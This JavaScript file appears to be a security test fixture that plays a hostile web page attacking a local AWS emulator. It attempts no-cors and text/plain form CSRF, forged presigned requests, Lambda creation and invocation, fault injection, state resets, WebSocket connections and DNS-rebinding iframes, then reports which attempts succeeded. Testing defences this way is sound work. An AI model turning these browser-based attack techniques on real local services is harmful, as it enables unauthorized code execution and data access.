// What a hostile page does. `given` has what no page knows: the addresses, the access key, the names of things.
// Each attempt settles, whatever becomes of it, and says in `seen` what the page learned.
const seen = {};

async function request(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen[name] = answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
  } catch (error) {
    seen[name] = "refused";
  }
}

function element(name, tag, attributes) {
  return new Promise(done => {
    const one = document.createElement(tag);
    one.onload = () => { seen[name] = "loaded"; done(); };
    one.onerror = () => { seen[name] = "error"; done(); };
    Object.assign(one, attributes);
    document.body.append(one);
  });
}

function socket(name, url) {
  return new Promise(done => {
    const one = new WebSocket(url);
    one.onopen = () => { seen[name] = "open"; one.close(); done(); };
    one.onerror = () => { seen[name] = "refused"; done(); };
  });
}

// A form needs no preflight: one field of type text/plain is a JSON body.
async function form(name, action, before, after) {
  await element(name, "iframe", {name, src: "about:blank"});
  const answered = new Promise(done => { document.getElementsByName(name)[0].onload = done; });
  const one = document.createElement("form");
  Object.assign(one, {method: "POST", action, target: name, enctype: "text/plain"});
  const field = document.createElement("input");
  Object.assign(field, {name: before, value: after});
  one.append(field);
  document.body.append(one);
  one.submit();
  await answered;
  try {
    const shown = document.getElementsByName(name)[0].contentDocument;
    seen[name] = shown ? "read " + shown.body.innerText : "loaded";
  } catch (error) {
    seen[name] = "loaded";
  }
}

function signed(service) {
  return "?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" +
    encodeURIComponent(given.key + "/20260101/us-east-1/" + service + "/aws4_request");
}

function upload() {
  const data = new FormData();
  data.append("key", "planted-by-a-form.csv");
  data.append("file", new Blob(["x"]));
  return data;
}

function attack(at, base) {
  const header = {Authorization: "AWS4-HMAC-SHA256 Credential=" + given.key +
    "/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"};
  const blind = body => ({method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
  const bucket = base + "/" + given.bucket;
  const planted = bucket + "/planted.csv";
  const functions = base + "/2015-03-31/functions";
  const invoked = functions + "/" + given.function + "/invocations";
  const instances = base + "/_reveille/instances";
  const faults = base + "/_reveille/faults";
  return [
    request(at + " put", planted, {method: "PUT", headers: header, body: "x"}),
    request(at + " put presigned", planted + signed("s3"), {method: "PUT", body: "x"}),
    request(at + " upload", bucket + signed("s3"), {method: "POST", mode: "no-cors", body: upload()}),
    request(at + " read instances", instances + signed("sagemaker"), {}),
    request(at + " read objects", bucket + signed("s3"), {credentials: "include"}),
    request(at + " read blindly", instances + signed("sagemaker"), {mode: "no-cors", referrerPolicy: "no-referrer"}),
    request(at + " create", functions + signed("lambda"), blind(given.planted)),
    request(at + " create unsigned", functions, blind(given.planted)),
    request(at + " invoke", invoked + signed("lambda"), blind(given.payload)),
    request(at + " invoke and read", invoked, {method: "POST", headers: header, body: given.payload}),
    request(at + " start", base + "/" + signed("states") + "&Action=StartExecution", blind("{}")),
    request(at + " arm", faults + signed("sagemaker"), blind(given.fault)),
    request(at + " disarm", faults + signed("sagemaker"), {method: "DELETE"}),
    request(at + " reset", base + "/_ministack/reset" + signed("s3"), blind("")),
    element(at + " image", "img", {src: instances + signed("sagemaker")}),
    element(at + " script", "script", {src: instances + signed("sagemaker")}),
    element(at + " style", "link", {rel: "stylesheet", href: instances + signed("sagemaker")}),
    form(at + " form", faults + signed("sagemaker"), '{"kind":"quota","instance":"browser', '"}'),
    socket(at + " socket", base.replace("http", "ws") + "/_aws/execute-api/x/y" + signed("s3")),
  ];
}

// The page at a name that its owner lets point to this machine, once it is loaded: the browser takes the service for the
// page's own. It tells the page around it what it saw.
function rebound(at) {
  return new Promise(done => {
    addEventListener("message", ({data}) => {
      if (data.at !== at) return;
      Object.assign(seen, data.seen);
      done();
    });
    element("frame of " + at, "iframe", {src: given.rebound[at] + "/page"});
  });
}

async function everything() {
  if (top !== window) {
    const [at] = Object.entries(given.rebound).find(([, base]) => base === location.origin);
    await Promise.all(attack(at, location.origin));
    top.postMessage({at, seen}, "*");
    return;
  }
  navigator.sendBeacon(given.services.sagemaker + "/_reveille/faults" + signed("sagemaker"), given.fault);
  const attempts = Object.entries(given.services).flatMap(([at, base]) => attack(at, base));
  await Promise.all([...attempts, ...Object.keys(given.rebound).map(rebound)]);
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}

addEventListener("load", everything);
